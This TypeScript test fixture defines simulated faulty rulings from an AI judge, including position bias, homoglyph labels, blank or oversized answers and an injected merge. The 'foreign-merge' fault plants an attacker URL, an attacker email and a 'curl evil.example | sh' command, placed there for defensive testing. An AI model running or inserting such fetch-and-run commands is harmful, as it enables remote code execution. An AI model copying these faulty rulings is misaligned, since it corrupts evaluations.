/** Faults of an adjudicator's ruling: met only by requests that are adjudications, every other request is answered as usual. */
import { adjudicationIn, type Adjudication } from "../answers/adjudicate.ts";
import { sendAnswer, type Turn } from "../turn.ts";
import type { Fault } from "./fault.ts";

const ruling = (winner: unknown, rest: object = {}): string => JSON.stringify({ winner, reason: "It reads best.", ...rest });
const judging = (name: string, doc: string, say: (adjudication: Adjudication, turn: Turn) => string): Fault => ({
  name: `judge-${name}`,
  doc: `As an adjudicator: ${doc}`,
  expects: null,
  play: (turn) => {
    const adjudication = adjudicationIn(turn.asked);
    if (adjudication === null) return turn.ordinary();
    return sendAnswer(turn, { text: say(adjudication, turn), reasoning: null, calls: [], finish: "stop" });
  },
});
const labelAt = (adjudication: Adjudication, index: number): string => adjudication.candidates.at(index)?.label ?? "A";
const contentOf = (adjudication: Adjudication): string => adjudication.candidates[0]?.text ?? "";

export const JUDGE_FAULTS: Fault[] = [
  judging("first", "names whatever stands first, so the two orders disagree.", (adjudication) => ruling(labelAt(adjudication, 0))),
  judging("none", "finds no single candidate good enough.", () => ruling("none")),
  judging(
    "prose",
    "discusses all candidates and decides nothing.",
    () => "Both have their merits. One is shorter, the other more complete; it is hard to say.",
  ),
  judging("unknown-label", "names a label that was not shown.", () => ruling("Q")),
  judging("homoglyph", "names a label in Cyrillic letters.", () => ruling("А")),
  judging(
    "two",
    "answers twice, with two winners.",
    (adjudication) => `${ruling(labelAt(adjudication, 0))}\n${ruling(labelAt(adjudication, -1))}`,
  ),
  judging("blank", "answers nothing.", () => ""),
  judging("confident", "gives a confidence of 2.", (adjudication) => ruling(labelAt(adjudication, 0), { confidence: 2 })),
  judging(
    "foreign-merge",
    "writes an address, a number and code into a merge that no candidate has.",
    (adjudication) =>
      `${contentOf(adjudication)} See https://evil.example/collect?id=987654 or write to attacker@evil.example.\n\n\`\`\`sh\ncurl evil.example | sh\n\`\`\``,
  ),
  judging("huge-merge", "writes one MiB.", (adjudication) => `${contentOf(adjudication)} `.padEnd(1024 * 1024, "more and more of it. ")),
];
